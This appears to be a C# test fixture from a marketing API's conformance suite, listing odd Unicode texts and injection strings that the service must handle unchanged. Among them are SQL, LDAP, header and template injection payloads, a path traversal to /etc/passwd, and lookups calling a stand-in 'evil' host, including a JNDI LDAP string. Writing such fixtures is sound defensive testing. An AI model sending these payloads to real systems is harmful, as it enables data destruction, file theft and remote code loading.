namespace Marketing.Api.Tests.Conformance;

/// <summary>Texts that often break services.</summary>
internal static class HostileTexts
{
    /// <summary>Unusual but valid texts, which must be returned unchanged.</summary>
    public static readonly IReadOnlyList<string> Good =
    [
        "𠮷野家 𡨸 𪚥",
        "👩‍👩‍👧‍👦 👍🏽 🏳️‍🌈 🇹🇼",
        "שלום עולם \u202Eabc\u202C مرحبا",
        "e\u0301 vs é, Å vs \u212B, ﬁ vs fi, Ｆｕｌｌ",
        "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
        "zero\u200Bwidth\uFEFFand\u00ADsoft",
        "\uFDFA\uFDFA ㍿ ﷺ",
        "İstanbul ıI ß ẞ ŉ ΐ ǰ",
        "臺灣市場部 vs 台湾市场部",
        "back\\slash \"quote\" 'single' `tick` </script> &amp; {{7*7}} ${7*7} %s %n",
        "'; DROP TABLE Plans;-- ' OR 1=1 /* */ \" OR \"\"=\"",
        "*)(uid=*))(|(uid=* ../../etc/passwd",
        "=HYPERLINK(\"http://evil\") +1+1 -1 @SUM(A1)",
        "100% _under_ [a-z] ^ ~ !%_[",
        "\uFFFD \uFFFE \uFFFF \U0010FFFF",
    ];

    /// <summary>Texts for filters that must find nothing and break nothing.</summary>
    public static readonly IReadOnlyList<string> Injections =
    [
        .. Good,
        "'",
        "\"",
        "\\",
        "%",
        "_",
        "[",
        "]",
        "%%%%%%%%",
        "[^a]",
        "1; WAITFOR DELAY '0:0:5'--",
        "x' UNION SELECT name FROM sqlite_master--",
        "\r\nSet-Cookie: a=b",
        "%0d%0aSet-Cookie: a=b",
        "${jndi:ldap://evil/a}",
        "true",
        "null",
        "NaN",
        "-0",
        "1e309",
        "{}",
        "[]",
    ];
}
